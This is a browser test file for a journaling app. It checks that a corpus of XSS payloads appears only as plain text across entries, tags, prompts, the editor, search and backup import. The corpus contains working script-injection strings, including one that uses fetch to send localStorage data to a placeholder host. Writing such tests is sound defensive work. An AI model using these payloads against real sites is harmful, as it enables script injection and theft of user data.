// An XSS corpus through every surface that shows a person's words: the composer and list,
// tags, prompts, the editor, search, an imported backup, and a reload from storage.
// Words are always text: no element is ever made from them and no script ever runs.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { withApp } from '../support/fixtures.mjs';
import { assertClean, watchDialogs } from '../support/browser.mjs';
import { openJournal, makeEntry, rfc3339 } from '../support/journal-page.mjs';
import { BackupPage, jsonFile } from '../support/backup-page.mjs';

const app = withApp();

export const XSS_CORPUS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  'javascript:alert(1)',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click me</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  "'';!--\"<XSS>=&{()}",
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<style>@import "http://example.invalid/x.css";</style>',
  '<link rel=stylesheet href=http://example.invalid/x.css>',
  '<base href="http://example.invalid/">',
  '<form action="http://example.invalid"><button>go</button></form>',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<img src="x" onerror="fetch(\'http://example.invalid/\'+localStorage.length)">',
  '\u202e<b>reversed</b>',
];

/** Elements that only markup could have made, anywhere in the app's main area. */
async function injected(page) {
  return page.locator('#app-main').evaluate((main) => {
    const tags = 'img,svg,script,iframe,object,embed,video,source,math,style,link,meta,base,details,b';
    const made = [...main.querySelectorAll(tags)].map((n) => n.tagName.toLowerCase());
    const onAttrs = [...main.querySelectorAll('*')].filter((n) => [...n.attributes].some((a) => /^on/i.test(a.name)));
    const scriptLinks = [...main.querySelectorAll('a[href]')].filter((a) => /^javascript:/i.test(a.getAttribute('href')));
    const forms = [...main.querySelectorAll('form[action]')];
    return { made, onAttrs: onAttrs.length, scriptLinks: scriptLinks.length, forms: forms.length };
  });
}

const CLEAN = { made: [], onAttrs: 0, scriptLinks: 0, forms: 0 };

test(`an XSS corpus of ${XSS_CORPUS.length} payloads shows as literal text in the list, tags, prompts, editor and search`, async () => {
  assert.ok(XSS_CORPUS.length >= 20);
  const { journal, page, guards } = await openJournal(app);
  const dialogs = watchDialogs(page);
  const hour = 3_600_000;
  // Seeded straight into storage: prompts and tags can hold anything an imported file holds.
  await journal.seed(
    XSS_CORPUS.map((payload, i) =>
      makeEntry({
        kind: ['win', 'concern', 'reflection'][i % 3],
        text: `${payload}\nline two ${i}`,
        tags: [payload.slice(0, 40)],
        prompt: i % 3 === 2 ? payload : undefined,
        created_at: new Date(Date.now() - (i + 1) * hour),
      }),
    ),
  );
  await journal.goto();
  // And one typed by hand, through the composer.
  await journal.write('win', XSS_CORPUS[0], { tags: XSS_CORPUS[2].slice(0, 40) });

  const entries = await journal.entries();
  for (const [i, payload] of XSS_CORPUS.entries()) {
    const shown = entries.find((e) => e.text === `${payload}\nline two ${i}`);
    assert.ok(shown, `payload ${i} shows as its literal text: ${payload}`);
    assert.deepEqual(shown.tags, [`#${payload.slice(0, 40)}`]);
    if (i % 3 === 2) assert.equal(shown.prompt, payload);
  }
  assert.deepEqual(await injected(page), CLEAN);

  // The editor holds the words as a field value, never as markup.
  await journal.startEdit(`${XSS_CORPUS[1]}\nline two 1`);
  assert.equal(await page.locator('form.entry-editor textarea').inputValue(), `${XSS_CORPUS[1]}\nline two 1`);
  await page.keyboard.press('Escape');

  // Search with a payload finds the entry and shows it as text.
  await journal.search(XSS_CORPUS[4]);
  assert.equal((await journal.entryTexts())[0], `${XSS_CORPUS[4]}\nline two 4`);
  assert.deepEqual(await injected(page), CLEAN);

  await journal.reload();
  assert.deepEqual(await injected(page), CLEAN);
  assert.deepEqual(dialogs, []);
  assertClean(guards);
});

test('an imported backup full of markup shows as text in the preview and the journal', async () => {
  const { journal, page, guards } = await openJournal(app);
  const dialogs = watchDialogs(page);
  const backup = new BackupPage(page, app.url);
  await backup.goto();
  const now = new Date();
  const file = {
    format: 'between-backup',
    version: 1,
    exported_at: rfc3339(now),
    entries: XSS_CORPUS.map((payload, i) =>
      makeEntry({ id: `xss-${i}`, kind: 'reflection', text: payload, prompt: payload, tags: ['safe'], created_at: new Date(now - i * 60_000) }),
    ),
  };
  const { lines } = await backup.importFile(jsonFile(file));
  assert.deepEqual(lines, [`${XSS_CORPUS.length} entries will be added.`]);
  assert.deepEqual(await injected(page), CLEAN);

  await journal.goto();
  const texts = await journal.entryTexts();
  for (const payload of XSS_CORPUS) assert.ok(texts.includes(payload), `imported payload shows as text: ${payload}`);
  assert.deepEqual(await injected(page), CLEAN);
  assert.deepEqual(dialogs, []);
  assertClean(guards);
});
